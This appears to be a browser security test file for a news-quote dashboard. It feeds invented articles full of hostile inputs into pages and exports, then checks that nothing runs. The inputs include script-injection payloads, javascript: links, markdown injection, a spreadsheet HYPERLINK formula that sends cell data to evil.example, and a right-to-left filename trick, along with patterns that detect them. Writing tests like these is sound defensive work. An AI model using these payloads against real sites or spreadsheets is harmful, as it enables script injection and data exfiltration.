"""Articles that try what they can, on every page and in every file: nothing runs, and the text is there to be read.

Whatever an article, its names and its address could be is made of the same attacks. All of it is invented.
"""

import csv
import io
import json
import urllib.request
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Dialog, Page, Request, expect

from onrecord.corpus import Store, open_store
from onrecord.model import Mention, ParsedArticle, Role, Unit
from tests.browser.conftest import running_dashboard
from tests.browser.settling import settle
from tests.builders import ENGINE, figure, parsed, quotation

SCRIPT = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>'
MARKUP = "<h1>H</h1> **b** [a](javascript:window.hacked=1) ![i](https://evil.example/i.png) $\\frac{1}{2}$ :red[r] :material/home:"
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"x")'
NAMES = [f"Ann {SCRIPT} Fay", f"Bo {MARKUP} Lund", f"{FORMULA} Moe", "Di \u202egnp.exe\u202c Nox"]
PAGES = [
    "",
    "quotes",
    "speakers",
    "entities",
    "topics",
    "figures",
    "statements",
    "articles",
    "review?review=sample",
    "corpus",
]
OF_THE_TEXT = "img[src=x], img[src*=evil], a[href^='javascript'], a[href*='//evil.example'], .katex, main h1 h1, script:has-text('hacked')"


# Whatever can be clicked, asks for something or runs, in SVG too: an attribute of any namespace, by its last name.
ALIVE = """() => {
    const leadsAway = text => {
        const to = URL.parse(text, document.baseURI);
        return to && (to.protocol === 'javascript:' || /evil/.test(to.hostname));
    };
    const takesYou = /^(href|src|action|formaction|data|to|values|srcdoc)$/i;
    const isAlive = it => /^on/i.test(it.localName) || (takesYou.test(it.localName) && leadsAway(it.value));
    return [...document.querySelectorAll('*')]
        .filter(element => [...element.attributes].some(isAlive) || element.style?.fontSize === '90px')
        .map(element => element.outerHTML.slice(0, 200));
}"""
TOPICS = """
[[topic]]
name = '<a href="https://evil.example/p?q=1">tariffs</a>'
phrases = ["steel", "tariff"]

[[topic]]
name = '<span style="font-size:90px">harbour</span>'
phrases = ["port", "steel"]
"""


def article(number: int, name: str) -> ParsedArticle:
    words = f"“{SCRIPT} {MARKUP} pays {number} million dollars for steel tariffs,”"
    text = f"{name} {number}\n\n{words} {name} said.\n\n“{FORMULA} is what we ask of the port,” she added.\n\n{'x' * 100_000}"
    start = text.index(name)
    quotes = [
        quotation(
            text, words, name, mention=name, cue="said", confidence=0.5, reason=f"subject of “{MARKUP}”", addressee=name
        ),
        quotation(text, f"“{FORMULA} is what we ask of the port,”", name, cue="added", on_behalf_of=NAMES[0]),
    ]
    return parsed(
        text, quotes, [Mention(start, start + len(name), "PERSON", name)], [Role(name, f"{SCRIPT} minister", start, start + 5)],
        [figure(text, f"{number} million dollars", number * 1e6, Unit.MONEY, of=f"{SCRIPT} steel", measures=MARKUP)],
        title=f"{name} {MARKUP}", outlet=f"{SCRIPT}*", author=name, published=date(2026, 3, number),
        url="javascript:window.hacked=1", source=f"{SCRIPT}/{FORMULA}.txt",
    )  # fmt: skip


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    store = open_store(str(tmp_path_factory.mktemp("hostile") / "corpus"))
    store.append([article(number, name) for number, name in enumerate(NAMES, 1)], ENGINE)
    return store


@pytest.fixture(scope="module")
def address(store: Store) -> Iterator[str]:
    topics = Path(store.location).with_name("topics.toml")
    topics.write_text(TOPICS, "utf-8")
    with running_dashboard(Path(store.location), ONRECORD_TOPICS=str(topics)) as address:
        yield address


@pytest.fixture
def watched(page: Page, address: str) -> Iterator[Page]:
    """A page that fails the test if it asks anybody else, or opens a dialog."""
    asked: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((address, address.replace("http", "ws", 1), "data:", "blob:")):
            asked.append(request.url)

    def refuse(dialog: Dialog) -> None:
        asked.append(dialog.message)
        dialog.dismiss()

    page.on("request", note)
    page.on("dialog", refuse)
    yield page
    page.remove_listener("request", note)
    page.remove_listener("dialog", refuse)
    assert not [url for url in asked if "evil" in url or "hacked" in url]


def stays_text(page: Page) -> None:
    settle(page)
    assert page.evaluate("window.hacked") is None
    assert page.locator(OF_THE_TEXT).count() == 0
    assert page.evaluate(ALIVE) == []
    expect(page.get_by_test_id("stException")).to_have_count(0)


def test_on_every_page_what_articles_say_stays_text(watched: Page, address: str) -> None:
    views = [
        *PAGES,
        f"speakers?{urlencode({'open': NAMES[0]})}",
        f"quotes?{urlencode({'speaker': NAMES[1], 'q': 'steel'})}",
    ]
    for view in views:
        watched.goto(f"{address}/{view}")
        expect(watched.get_by_test_id("stMain").get_by_role("heading").first).to_be_visible()
        stays_text(watched)
    watched.goto(f"{address}/articles")
    watched.locator(".otr-headlines a").first.click()
    article = watched.locator(".otr-article")
    expect(article).to_contain_text('<img src=x onerror="window.hacked=1"><script>')
    stays_text(watched)
    watched.goto(f"{address}/quotes")
    watched.get_by_role("button", name="In context").first.click()
    expect(watched.locator(".otr-card")).to_contain_text("$\\frac{1}{2}$ :red[r] :material/home:")
    stays_text(watched)


def fetched(address: str) -> bytes:
    with urllib.request.urlopen(address) as answer:  # noqa: S310 (our own loopback address)
        content: bytes = answer.read()
        return content


@pytest.mark.parametrize("subject", ["quotes", "articles", "speakers", "topics", "figures"])
def test_no_cell_of_a_file_is_run(address: str, subject: str) -> None:
    rows = list(csv.reader(io.StringIO(fetched(f"{address}/api/{subject}?format=csv").decode("utf-8-sig"))))
    assert len(rows) > 1
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    book = zipfile.ZipFile(io.BytesIO(fetched(f"{address}/api/{subject}?format=xlsx")))
    sheets = [book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
    assert not [sheet for sheet in sheets if b"<f>" in sheet or b"<hyperlink" in sheet]
    for line in fetched(f"{address}/api/{subject}").splitlines():
        json.loads(line)


@pytest.mark.parametrize("view", ["", "topics"])
def test_a_report_runs_nothing(watched: Page, address: str, tmp_path: Path, view: str) -> None:
    watched.goto(f"{address}/{view}")
    button = watched.get_by_role("button", name="Report")
    expect(button).to_be_visible()
    settle(watched)
    button.click()
    with watched.expect_download() as download:
        watched.get_by_role("button", name="Page to print").click()
    file = tmp_path / "report.html"
    download.value.save_as(file)
    watched.goto(file.as_uri())
    expect(watched.locator("body")).to_contain_text("<script>window.hacked=1</script>")
    assert watched.evaluate("window.hacked") is None
    assert watched.evaluate(ALIVE) == []
